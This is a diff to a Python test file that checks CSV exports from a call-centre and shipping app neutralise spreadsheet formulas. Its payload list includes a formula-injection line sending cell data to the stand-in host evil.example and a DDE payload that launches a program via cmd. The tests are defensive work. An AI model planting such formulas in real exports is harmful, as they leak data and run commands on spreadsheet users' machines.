@@ -14,6 +14,7 @@ from counterapp.services.csv_cells import neutralise, restore
 from counterapp.services.csv_io import IMPORT_COLUMNS, MAX_PROBLEMS
 from counterapp.services.csv_read import read_table, sniff_delimiter
 from counterapp.services.customers import CustomerInput, PhoneInput
+from counterapp.services.shipping import OnTimeRow, ShippingService
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "@SUM(1)", "-2+3", "\tx", "\rx", "'=already quoted", "''@twice"]
@@ -225,3 +226,18 @@ def test_exported_numbers_stay_numbers(services, staff, tmp_path):
     record = dict(zip(header, cells, strict=True))
     assert record["name"] == "'=cmd"
     assert record["balance"] == "-12.50" and record["phone"] == "+390212345678"
+
+
+def test_every_csv_export_neutralises_formulas(services, staff, tmp_path):
+    """The phone panel's call export and the on-time statistics go through the same writer."""
+    call = services.calls.start_call(staff["junior"], "0212345678", direction="inbound")
+    services.calls.end_call(staff["junior"], call.id, outcome="no_answer",
+                            notes='=HYPERLINK("http://x","y")')
+    out = tmp_path / "calls.csv"
+    assert services.calls.export_csv(out, actor=staff["mgr"]) == 1
+    header, row = _cells(out)
+    record = dict(zip(header, row, strict=True))
+    assert record["notes"] == "'=HYPERLINK(\"http://x\",\"y\")"
+    assert record["number"] == "+390212345678"
+    text = ShippingService.on_time_csv([OnTimeRow("x", "@SUM(1)", 2, 1)], "carrier")
+    assert text.splitlines()[1] == "'@SUM(1),2,1,1,50.0"
